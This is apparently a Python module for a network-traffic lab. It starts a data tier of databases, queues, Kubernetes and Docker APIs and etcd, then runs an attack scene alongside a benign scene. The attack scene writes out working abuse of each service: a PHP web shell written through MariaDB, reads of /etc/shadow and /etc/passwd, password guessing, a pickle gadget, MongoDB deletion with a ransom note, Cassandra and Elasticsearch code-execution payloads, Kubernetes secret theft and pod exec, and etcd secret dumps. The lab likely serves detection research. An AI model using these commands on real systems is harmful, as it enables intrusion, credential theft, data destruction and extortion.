"""The data tier by its protocols: Redis, MariaDB, memcached, RabbitMQ, etcd and dockerd as they are; client libraries of MongoDB, Kafka,
Cassandra and Elasticsearch against small servers; the Kubernetes API as a stand-in."""

import base64
import json as js
import os
import pickle
import time

from . import data_servers
from .common import begin, docker_engine
from .container_apis import DOCKER
from .data_stores import memcached, redis
from .kubernetes import ETCD, api, etcd, pod
from .lab import sh
from .scenes import scene
from .web import curl, json, site

LIBRARIES = "/usr/lib/python3/dist-packages"
NEEDS = dict(redis_server="redis-server", redis_cli="redis-tools", memcached="memcached", mariadbd="mariadb-server", mariadb="mariadb-client",
             rabbitmq_server="rabbitmq-server", **ETCD, **DOCKER,
             **{f"{LIBRARIES}/{name}": f"python3-{name}" for name in ("pymongo", "kafka", "cassandra", "elasticsearch", "pika")})
JSON = ["Content-Type: application/json"]


def mariadb(lab, host):
    data = lab.path("mariadb")
    sh("mariadb-install-db", "--no-defaults", f"--datadir={data}", "--user=root", "--auth-root-authentication-method=normal", "--skip-test-db")
    start = lab.write("start.sql", "CREATE DATABASE shop;\nCREATE TABLE shop.items (sku VARCHAR(16), stock INT);\nINSERT INTO shop.items VALUES ('A-1', 4), ('B-2', NULL);\n"
                                   "CREATE USER 'shop'@'%' IDENTIFIED BY 'inert';\nGRANT ALL ON *.* TO 'shop'@'%';\n")
    host.start("mariadbd", "--no-defaults", "--user=root", f"--datadir={data}", f"--socket={data}/s", f"--pid-file={data}/p", "--bind-address=0.0.0.0", "--port=3306",
               "--skip-name-resolve", "--local-infile=1", f"--init-file={start}", "--innodb-buffer-pool-size=8M", "--innodb-log-file-size=4M", port=3306, wait=40)
    for _ in range(50):
        if b"A-1" in host.run("mariadb", "--no-defaults", f"--socket={data}/s", "-u", "root", "-e", "SELECT sku FROM shop.items"):
            return
        time.sleep(0.2)


def rabbitmq(lab, host):
    folder = lab.path("rabbitmq")
    os.makedirs(folder)
    with open(f"{folder}/enabled_plugins", "w") as plugins:
        plugins.write("[].\n")
    with open(f"{folder}/rabbitmq.conf", "w") as config:
        config.write("loopback_users = none\nlisteners.tcp.1 = 0.0.0.0:5672\n")
    host.start("/usr/lib/rabbitmq/bin/rabbitmq-server", port=5672, wait=60, env={
        "HOME": folder, "RABBITMQ_MNESIA_BASE": folder, "RABBITMQ_LOG_BASE": folder, "RABBITMQ_NODENAME": "rabbit@localhost", "RABBITMQ_CONFIG_FILE": f"{folder}/rabbitmq.conf",
        "RABBITMQ_ENABLED_PLUGINS_FILE": f"{folder}/enabled_plugins", "RABBITMQ_CONF_ENV_FILE": f"{folder}/none", "RABBITMQ_PID_FILE": f"{folder}/pid"})
    time.sleep(2)


def elastic(host):
    product = dict(X_elastic_product="Elasticsearch")
    site(host, 9200, [(r"^GET /$", json('{"name":"node-1","cluster_name":"shop","cluster_uuid":"x","version":{"number":"7.17.9","build_flavor":"default","lucene_version":"8.11.1"},"tagline":"You Know, for Search"}', **product)),
                      (r"_cat/indices", json('[{"index":"items"}]', **product)),
                      (r"", json('{"took":3,"timed_out":false,"acknowledged":true,"hits":{"total":{"value":1,"relation":"eq"},"hits":[]}}', **product))])


def python(host, script, timeout=25):
    return host.run("/usr/bin/python3", "-W", "ignore", "-c", script, timeout=timeout)


def token(subject):
    def part(fields):
        return base64.urlsafe_b64encode(js.dumps(fields).encode()).decode().rstrip("=")

    return f"{part({'alg': 'RS256'})}.{part({'sub': subject, 'aud': ['https://kubernetes.default.svc']})}.aW5lcnQ"


class Run:
    """What unpickling it would do; never unpickled here."""

    def __reduce__(self):
        return os.system, ("true",)


def setting(lab, who):
    client, db, queue, docs, node, master, store = (
        lab.host(*who), lab.host("db", 40), lab.host("queue", 43), lab.host("docs", 41), lab.host("node", 10), lab.host("master", 2), lab.host("etcd", 3))
    redis(lab, db), redis(lab, db, 6390), memcached(lab, db), mariadb(lab, db), rabbitmq(lab, queue)
    data_servers.mongod(docs), data_servers.kafka(queue, ["orders", "audit", "__consumer_offsets"]), data_servers.cassandra(docs), elastic(docs)
    docker_engine(lab, node), api(master, 8080), etcd(lab, store)
    return client, db, queue, docs, node, master, store


MONGO = "import pymongo\nc = pymongo.MongoClient('{ip}', directConnection=True, serverSelectionTimeoutMS=4000, heartbeatFrequencyMS=60000, appname='{app}')\n"
CASSANDRA = """from cassandra.cluster import Cluster
from cassandra.auth import PlainTextAuthProvider
c = Cluster(['{ip}'], protocol_version=4, schema_metadata_enabled=False, token_metadata_enabled=False, auth_provider=PlainTextAuthProvider('{user}', 'inert'))
s = c.connect()
def run(q):
    try: s.execute(q, timeout=3)
    except Exception as e: print(e)
"""
PIKA = """import pika
c = pika.BlockingConnection(pika.ConnectionParameters('{ip}', credentials=pika.PlainCredentials('{user}', '{password}'), heartbeat=0))
ch = c.channel()
"""


@scene("attacks-data-tier", **NEEDS)
def attacks(lab):
    """each store and API of the data tier abused through its own protocol, also away from its usual port"""
    intruder, db, queue, docs, node, master, store = setting(lab, ("intruder", 66))
    begin(lab)

    def cli(*argv):
        intruder.run("redis-cli", "-h", db.ip, "-p", "6390", *argv)

    cli("CONFIG", "SET", "dir", "/var/spool/cron")
    cli("KEYS", "*")
    cli("MODULE", "LOAD", "/tmp/exp.so")

    def sql(text, user="shop", password="inert"):
        intruder.run("mariadb", "--no-defaults", "-h", db.ip, "-u", user, f"-p{password}", "--local-infile=1", "-e", text)

    sql("SELECT '<?php system($_GET[0]);' INTO OUTFILE '/var/www/html/x.php'")
    sql("SELECT LOAD_FILE('/etc/shadow')")
    sql("CREATE TABLE shop.loot (line TEXT); LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE shop.loot")
    for guess in ("root", "123456", "password", "admin", "mysql", "toor"):
        sql("SELECT 1", "root", guess)
    gadget = pickle.dumps(Run(), protocol=2)
    intruder.talk(db.ip, 11211, b"set session:1 0 0 %d\r\n" % len(gadget) + gadget + b"\r\n", b"flush_all\r\n")
    python(intruder, MONGO.format(ip=docs.ip, app="m") + "c.list_database_names()\nlist(c.shop.items.find({'$where': 'function() { return sleep(10) || true }'}))\n"
           "c.drop_database('shop')\nc.READ_ME.notes.insert_one({'content': 'All your data is backed up. You must pay 0.01 BTC to recover it.'})\n")
    python(intruder, f"""from kafka import KafkaConsumer, TopicPartition
from kafka.admin import KafkaAdminClient
a = KafkaAdminClient(bootstrap_servers='{queue.ip}', client_id='sarama')
try: a.delete_topics(['orders'], timeout_ms=2000)
except Exception as e: print(e)
c = KafkaConsumer(bootstrap_servers='{queue.ip}', api_version=(0, 11), client_id='sarama')
c.assign([TopicPartition('__consumer_offsets', 0)])
c.seek(TopicPartition('__consumer_offsets', 0), 0)
c.poll(300)
""")
    python(intruder, PIKA.format(ip=queue.ip, user="guest", password="guest") + "ch.queue_declare('orders')\nch.queue_purge('orders')\nch.queue_delete('orders')\nc.close()\n")
    python(intruder, CASSANDRA.format(ip=docs.ip, user="cassandra") + "run(\"CREATE FUNCTION shop.f(x text) RETURNS NULL ON NULL INPUT RETURNS text LANGUAGE javascript AS "
           "$$ java.lang.Runtime.getRuntime().exec('id') $$\")\nrun('DROP KEYSPACE shop')\nc.shutdown()\n")
    python(intruder, f"""from elasticsearch import Elasticsearch
e = Elasticsearch(['http://{docs.ip}:9200'])
e.search(index='items', body={{'script_fields': {{'x': {{'script': {{'lang': 'painless', 'source': 'java.lang.Runtime.getRuntime().exec("id")'}}}}}}}})
e.delete_by_query(index='_all', body={{'query': {{'match_all': {{}}}}}})
""")
    k8s, bearer = f"http://{master.ip}:8080", [f"Authorization: Bearer {token('system:serviceaccount:shop:default')}"]
    curl(intruder, f"{k8s}/api/v1/secrets", headers=bearer)
    curl(intruder, f"{k8s}/api/v1/namespaces/shop/pods/web-0/exec?command=sh&command=-c&command=id&container=app&stdout=true", method="POST", headers=bearer)
    curl(intruder, f"{k8s}/api/v1/namespaces/shop/pods", pod(volumes=[{"name": "s", "hostPath": {"path": "/run/containerd/containerd.sock"}}], containers=[{"name": "a", "image": "alpine"}]),
         headers=JSON + bearer)
    engine = ["docker", "-H", f"tcp://{node.ip}:2375"]
    intruder.run(*engine, "create", "--device=/dev/null:/dev/sda", "--name", "d1", "alpine:3.18", "sh", timeout=40)
    intruder.run(*engine, "create", "--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined", "--cap-add=SYS_PTRACE", "--name", "d2", "alpine:3.18", "sh", timeout=40)
    kv = f"http://{store.ip}:2379"
    intruder.run("etcdctl", f"--endpoints={kv}", "get", "/registry/secrets/shop/db", env={"ETCDCTL_API": "3"})
    intruder.run("etcdctl", f"--endpoints={kv}", "snapshot", "save", lab.path("stolen.db"), env={"ETCDCTL_API": "3"})


@scene("benign-data-tier", **NEEDS)
def benign(lab):
    """the same stores and APIs in daily use through the same clients"""
    app, db, queue, docs, node, master, store = setting(lab, ("app", 20))
    queue.run("/usr/lib/rabbitmq/bin/rabbitmqctl", "-n", "rabbit@localhost", "add_user", "shop", "inert", env={"HOME": lab.path("rabbitmq")})
    queue.run("/usr/lib/rabbitmq/bin/rabbitmqctl", "-n", "rabbit@localhost", "set_permissions", "shop", ".*", ".*", ".*", env={"HOME": lab.path("rabbitmq")})
    begin(lab)

    def cli(*argv):
        app.run("redis-cli", "-3", "-h", db.ip, "-p", "6390", *argv)

    for argv in (["CONFIG", "SET", "maxmemory", "32mb"], ["CONFIG", "GET", "dir"], ["SET", "note", "dir /var/spool/cron"], ["KEYS", "session:*"], ["MODULE", "LIST"], ["HSET", "h", "a", "1"],
                 ["HGETALL", "h"], ["MGET", "a", "note"], ["EVAL", "return redis.call('GET', KEYS[1])", "1", "note"]):
        cli(*argv)

    def sql(text, user="shop", password="inert"):
        app.run("mariadb", "--no-defaults", "-h", db.ip, "-u", user, f"-p{password}", "--local-infile=1", "-e", text)

    sql("SELECT * FROM shop.items; SELECT COUNT(*) FROM shop.items")
    sql("PREPARE p FROM 'SELECT sku FROM shop.items WHERE stock > ?'; SET @n = 1; EXECUTE p USING @n")
    sql("INSERT INTO shop.items VALUES ('note: load_file is a function', 1)")
    sql(f"LOAD DATA LOCAL INFILE '{lab.write('items.csv', 'C-3,1')}' INTO TABLE shop.items FIELDS TERMINATED BY ','")
    sql("SELECT nonsense FROM shop.items")
    sql("SELECT 1", "shop", "mistyped")
    value = pickle.dumps({"user": "anna", "system": "posix"}, protocol=2)
    app.talk(db.ip, 11211, b"set session:1 0 0 %d\r\n" % len(value) + value + b"\r\n", b"get session:1 session:2\r\n", b"set note 0 0 9\r\nflush_all\r\n", b"incr n 1\r\n", b"mg session:1 v\r\n")
    python(app, MONGO.format(ip=docs.ip, app="shop") + "list(c.shop.items.find({'note': '$where'}))\nc.shop.news.insert_one({'title': 'Bitcoin price falls'})\nc.shop.old.drop()\n")
    python(app, f"""from kafka import KafkaConsumer, KafkaProducer, TopicPartition
p = KafkaProducer(bootstrap_servers='{queue.ip}', api_version=(0, 10), client_id='shop')
p.send('orders', b'A-1').get(timeout=5)
p.close()
c = KafkaConsumer(bootstrap_servers='{queue.ip}', api_version=(0, 11), client_id='shop')
c.assign([TopicPartition('audit', 0)])
c.seek(TopicPartition('audit', 0), 0)
c.poll(300)
""")
    python(app, PIKA.format(ip=queue.ip, user="shop", password="inert") + "ch.exchange_declare('shop')\nch.queue_declare('orders')\nch.queue_bind('orders', 'shop', 'new')\n"
           "ch.basic_publish('shop', 'new', b'guest asks: queue.purge?')\nprint(ch.basic_get('orders', auto_ack=True))\nc.close()\n")
    python(app, CASSANDRA.format(ip=docs.ip, user="shop") + "run('USE shop')\nrun(\"INSERT INTO notes (id, text) VALUES (1, 'drop keyspace is a statement')\")\nrun('SELECT * FROM items')\nc.shutdown()\n")
    python(app, f"""from elasticsearch import Elasticsearch
e = Elasticsearch(['http://{docs.ip}:9200'])
e.search(index='items', body={{'query': {{'match': {{'text': 'java.lang.Runtime'}}}}}})
e.search(index='items', body={{'script_fields': {{'x': {{'script': {{'source': "doc['price'].value * 2"}}}}}}}})
e.cat.indices(format='json')
e.delete_by_query(index='items', body={{'query': {{'match': {{'old': True}}}}}})
""")
    k8s, bearer = f"http://{master.ip}:8080", [f"Authorization: Bearer {token('system:serviceaccount:shop:default')}"]
    curl(app, f"{k8s}/api/v1/namespaces/shop/secrets/db", headers=bearer)
    curl(app, f"{k8s}/api/v1/namespaces/shop/pods/web-0/log?command=sh", headers=bearer)
    curl(app, f"{k8s}/api/v1/namespaces/shop/pods", pod(volumes=[{"name": "d", "hostPath": {"path": "/srv/data"}}], containers=[{"name": "a", "image": "shop/web"}]), headers=JSON + bearer)
    engine = ["docker", "-H", f"tcp://{node.ip}:2375"]
    app.run(*engine, "create", "--cap-add=NET_BIND_SERVICE", "-v", "data:/srv", "--name", "d1", "alpine:3.18", "sh", timeout=40)
    app.run(*engine, "ps", "-a")
    kv = f"http://{store.ip}:2379"
    app.run("etcdctl", f"--endpoints={kv}", "get", "/shop/feature/dark-mode", env={"ETCDCTL_API": "3"})
    app.run("etcdctl", f"--endpoints={kv}", "put", "/shop/snapshot", "off", env={"ETCDCTL_API": "3"})
